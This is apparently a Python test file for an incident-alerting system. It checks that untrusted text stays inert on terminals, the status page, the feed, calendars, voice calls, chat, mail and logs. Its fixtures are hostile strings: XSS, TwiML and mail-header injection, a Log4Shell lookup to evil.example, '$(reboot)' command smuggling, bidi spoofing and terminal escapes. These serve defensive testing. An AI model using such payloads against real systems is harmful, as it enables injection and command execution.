"""What a source or a person says stays words (test 21 of the reliability notes): in every channel, in a terminal, on the status page, in
its feed, in calendars and in the logs, whatever control characters, marks of direction, markup or formats it holds."""
import html.parser
import json
import re
import time
import xml.etree.ElementTree as xml
from datetime import datetime, timezone

import icalendar

from answers import AnswerableWorld
from cluster import TIERS, eventually
from noticeboard import ATOM, fetched, keys, showing
from senders import Gateway
from wire import ADD_OVERRIDE, PUBLISH, Client, escalation, intake, key, rpc, schedule

# Taken as they are, each for a service of its own, and told to people.
TAKEN = {
    "bidi": "pods \u202egnp.exe\u202c \u2066evil\u2069 \u200bzero\ufeff width",
    "html": "</title><script>alert(1)</script> <img src=x onerror=alert(1)> &lt;b&gt; &#60;",
    "twiml": "</Say><Hangup/><Say>all is well</Say> ]]> <!-- <?xml version='1.1'?>",
    "slack": "<!channel> <!here|here> <@U024BE7LH> <https://evil.example|Acknowledge> *bold* `code`",
    "format": "%s %n %@ %x {0} ${jndi:ldap://evil.example/a} $(reboot) `reboot` ; reboot",
    "json": "\"},{\"severity\":\"SEV-4\"} \\u0000 \\n \\\\ \\x1b[31m",
    "mail": "Subject: x%0d%0aBcc: all@evil.example =?utf-8?q?=0d=0aBcc:_x?=",
    "codes": "reply 000000 ack http://127.0.0.1/answer/x",
    "wide": "\U0001f4a3\u0301\u0301\u0301 " + "e\u0301" * 300,
}
# Refused at the door, with the field's name.
REFUSED = {
    "escape": ("summary", "\x1b[31mred\x1b]0;title\x07"), "lines": ("summary", "pods down\r\n[SEV-4] all well"),
    "nul": ("summary", "pods\0down"), "c1": ("service", "pods\u009b31m"), "large": ("details", "x" * 60_000),
}
ELEMENTS = {"Response", "Say", "Gather", "Pause", "Hangup", "Redirect"}
LABEL_BYTES = 4_096


def hidden(text, lines=True):
    """Characters that a reader doesn't see, or that a terminal obeys."""
    return re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff]" if lines else "[\x00-\x1f\x7f-\x9f]", text)


def event(name, **fields):
    said = {"summary": TAKEN.get(name, ""), "service": f"service-{name}", **fields}
    return intake.Event(
        action=intake.ACTION_TRIGGER, source="cluster", dedup_key=name, severity=1, alert_class="service_down",
        labels=[{"name": "words", "value": longest(said["summary"] or "x")}], **said).SerializeToString()


def longest(text):
    """As long as a label's value may be, in bytes of UTF-8, by saying it again and again."""
    return (text * LABEL_BYTES).encode()[:LABEL_BYTES].decode(errors="ignore")


def labelled(value):
    return intake.Event(action=intake.ACTION_TRIGGER, source="cluster", dedup_key="labelled", severity=4, summary="x", labels=[
        {"name": "words", "value": value}]).SerializeToString()


def a_label_that_is_too_long_is_refused(cluster, gateway):
    """By a byte and by a megabyte: with field and rule where a message of that size is read at all."""
    tiers, sources = Client(cluster.endpoint("alert-intake")), Client(cluster.sources())
    for client, size in [(tiers, LABEL_BYTES + 1), (sources, LABEL_BYTES + 1), (tiers, 1_000_000)]:
        found = client.call(PUBLISH, labelled("x" * size), key())
        assert found and found[0].status == 3, found
        detail = rpc.ErrorDetail.FromString(found[0].status_details)
        assert detail.field == "labels[0].value" and str(size) in found[0].status_message, found[0]
    assert sources.call(PUBLISH, labelled("x" * 1_000_000), key(), wait=1) is None, "a source may send a megabyte"
    # By HTTP nobody looks at a refusal: what is too long is cut.
    status, said = gateway.post("/events", {"summary": "cut", "severity": "SEV-4", "labels": {"words": "x" * 1_000_000}}, "load")
    assert status == 200, (status, said)
    kept = next(one for one in cluster.json("alert", "list")["alerts"] if one["summary"] == "cut")
    label = next(one["value"] for one in kept["labels"] if one["name"] == "words")
    assert 1_000 < len(label) <= LABEL_BYTES, len(label)
    assert sources.publish_until_ok(labelled("x" * LABEL_BYTES), key())[0].alert_id


def words(world, provider):
    """Everything that one provider was told, as text."""
    return [(line, value) for line in world.asked(provider) for value in strings(line["fields"])]


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for inner in value.values():
            yield from strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)


class Unhurried(AnswerableWorld):
    """Nothing is held back for a digest, and logs are an object a line."""

    def __init__(self, binaries, **more):
        super().__init__(binaries, **more)
        for tier in TIERS:
            self.cluster.extra[tier] = [*self.cluster.extra.get(tier, []), "--log-format", "json", "--log-level", "info"]

    def configure(self):
        super().configure()
        contacts = self.cluster.folder / "config/contacts.yaml"
        contacts.write_text(contacts.read_text().replace("kind: Contacts\n", "kind: Contacts\nlimits: { pages-per-minute: 60 }\n"))
        self.cluster.ctl("apply", "-f", contacts.parent)


class Elements(html.parser.HTMLParser):
    """Which elements, attributes and words a page has."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.names, self.attributes, self.words = set(), set(), []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.names.add(tag)
        self.attributes |= {name for name, _ in attributes}

    def handle_data(self, data):
        self.words.append(data)


def people_say(cluster, incidents):
    """The same words, by people: updates, silences, a swapped shift; and what they may not say is refused by its field."""
    person, client = cluster.primary(), Client(cluster.endpoint("escalator"))
    schedules = Client(cluster.endpoint("scheduler"))
    # By the tiers' clock.
    now = int(cluster.fast(time.time_ns() // 1_000_000))
    until = datetime.fromtimestamp(now // 1_000 + 7_200, timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    for place, (name, text) in enumerate(TAKEN.items()):
        incident = incidents[f"service-{name}"]
        cluster.ctl("incident", "ack", incident, "--by", person)
        cluster.ctl("incident", "update", incident, "--by", person, "--status", "investigating",
                    *(f"--{field}={text}" for field in ("impact", "actions", "next", "eta")))
        cluster.ctl("silence", "add", "--match", f"service=quiet-{name}", "--until", until, f"--reason={text}", "--by", person)
        change = schedule.OverrideRequest(
            team="platform", tier=1, person=person, from_at_ms=now + 3_600_000 * (place + 1), until_at_ms=now + 3_600_000 * (place + 2),
            reason=text.encode()[:500].decode(errors="ignore"), by="tara")
        schedules.until_ok(ADD_OVERRIDE, change.SerializeToString(), key())
    for name, (_, text) in REFUSED.items():
        if name != "lines" and name != "large":
            found = client.call("/tocsin.escalation.v1.Escalation/PostUpdate", escalation.UpdateRequest(
                incident_id=incident, by=person, status=1, impact=text).SerializeToString(), key())
            assert found and found[0].status == 3 and rpc.ErrorDetail.FromString(found[0].status_details).field == "impact", f"{name}: {found}"


def what_is_published_stays_words(cluster, gateway, person):
    """The status page, its data and its feed, and a calendar."""
    address = keys(cluster, "feed", "make", "--person", person)
    data = eventually("every update on the status page", 20, lambda: (
        found := json.loads(fetched(gateway.url + "/status.json")[2])) and len(found.get("notices", [])) == len(TAKEN) and found)
    for text in strings(data):
        assert not hidden(text), text
    _, headers, body = fetched(gateway.url + "/status")
    page = Elements(body.decode())
    assert page.names <= {"html", "head", "meta", "title", "link", "style", "body", "main", "header", "footer", "nav", "section", "article", "h1", "h2",
                          "h3", "p", "ul", "ol", "li", "a", "time", "div", "span", "strong", "small", "dl", "dt", "dd"}, page.names
    assert not any(name.startswith("on") or name == "src" for name in page.attributes), page.attributes
    assert not hidden("".join(page.words)) and "alert(1)" in "".join(page.words)
    assert "default-src 'none'" in headers["Content-Security-Policy"], headers
    feed = xml.fromstring(fetched(gateway.url + "/status.atom")[2])
    names = {element.tag.removeprefix(ATOM) for element in feed.iter()}
    assert names <= {"feed", "id", "title", "updated", "link", "entry", "published", "content", "summary", "author", "name", "generator",
                     "category"}, names
    assert sum(1 for _ in feed.iter(f"{ATOM}entry")) == len(TAKEN)
    assert not any(hidden(text) for text in feed.itertext())
    eventually("the calendar", 10, lambda: fetched(gateway.url + address)[0] == 200)
    raw = fetched(gateway.url + address)[2].decode()
    assert not hidden(raw.replace("\r\n", "\n")) and raw.count("\n") == raw.count("\r\n")
    calendar = icalendar.Calendar.from_ical(raw)
    events = calendar.walk("VEVENT")
    names = {name for event in events for name in event}
    assert names <= {"UID", "SEQUENCE", "DTSTAMP", "LAST-MODIFIED", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "STATUS", "TRANSP"}, names
    told = "\n".join(str(event["DESCRIPTION"]) for event in events)
    assert all(text[:12] in told for name, text in TAKEN.items() if name in ("html", "slack", "format", "mail")), told
    return len(page.words), len(events)


def what_anybody_says_stays_words(binaries):
    with Unhurried(binaries, rate=60) as world:
        cluster = world.cluster
        with Gateway(cluster, "load", options=showing(cluster)) as gateway:
            keys(cluster, "noticeboard")
            client = Client(cluster.sources())
            for name, (field, text) in REFUSED.items():
                found = client.call(PUBLISH, event(name, **{"summary": "x", field: text}), key(), wait=5)
                assert found and found[0].status in (3, 8, 11), f"{name}: {found}"
                assert field in str(found[0]), f"{name}: {found[0]}"
            client.close()
            a_label_that_is_too_long_is_refused(cluster, gateway)
            client = Client(cluster.sources())
            for name in TAKEN:
                client.publish_until_ok(event(name), key())
                time.sleep(0.3)  # 18 s of the tiers' clock: what is due together goes along in one message, which names the worst
            calls = eventually("a call about each", 60, lambda: (
                found := [line for line in world.taken("twilio") if line["path"].endswith("/Calls.json")])
                and all(any(f"service-{name}" in json.dumps(line["fields"]) for line in found) for name in TAKEN) and found)
            incidents = {one["service"]: one["id"] for one in cluster.json("incident", "list")["incidents"] if one["service"]}
            assert set(incidents) == {f"service-{name}" for name in TAKEN}, incidents
            people_say(cluster, incidents)
            published = what_is_published_stays_words(cluster, gateway, cluster.primary())
        for line in calls:
            spoken = xml.fromstring(line["fields"]["Twiml"])
            assert {element.tag for element in spoken.iter()} <= ELEMENTS, line["fields"]["Twiml"]
            assert sum(element.tag == "Hangup" for element in spoken.iter()) <= 1, line["fields"]["Twiml"]
        counted = {"twilio calls": len(calls)}
        for provider in ("ntfy", "twilio", "slack"):
            told = words(world, provider)
            counted[provider] = len(told)
            assert len(told) > len(TAKEN), provider
            for line, value in told:
                assert not hidden(value), f"{provider}: {hidden(value)} in {value!r}"
                assert not line["fields"].get("rung"), f"Slack would ring for {line['fields']}"
        letters = [letter for _, letter in world.mailbox.letters]
        for letter in letters:
            assert set(letter.keys()) & {"Bcc", "bcc"} == set() and "\n" not in letter["Subject"], letter
            assert not letter.is_multipart() and letter.get_content_type() == "text/plain", letter
            content = letter.get_content().replace("\r\n", "\n")
            assert not hidden(content), f"{hidden(content)} in {content!r}"
        assert any("alert(1)" in letter.get_content() for letter in letters), "no letter tells what was said"
        for body in cluster.receiver.received():
            assert not hidden(body["text"]), body
        shown = [cluster.ctl("incident", "list"), cluster.ctl("page", "list"), cluster.ctl("alert", "list"), cluster.ctl("silence", "list"),
                 cluster.ctl("audit"), cluster.ctl("schedule", "show", "platform")]
        for incident in incidents.values():
            shown += [cluster.ctl("incident", what, incident) for what in ("show", "timeline", "document")]
        for text in shown:
            assert not hidden(text), f"{hidden(text)} in {text!r}"
        lines = [line for tier in TIERS for line in (cluster.folder / f"{tier}.log").read_bytes().decode().splitlines()]
        for line in lines:
            told = json.loads(line)
            assert {"at", "level", "tier", "message"} <= set(told) and not hidden(line), line
        return (f"{len(TAKEN)} told, by sources and people, {len(REFUSED)} refused; looked at: {counted}, {len(letters)} letters, {published[0]} parts of the "
                f"status page, {published[1]} shifts, {len(shown)} tables, {len(lines)} lines of logs")


ALL = [what_anybody_says_stays_words]
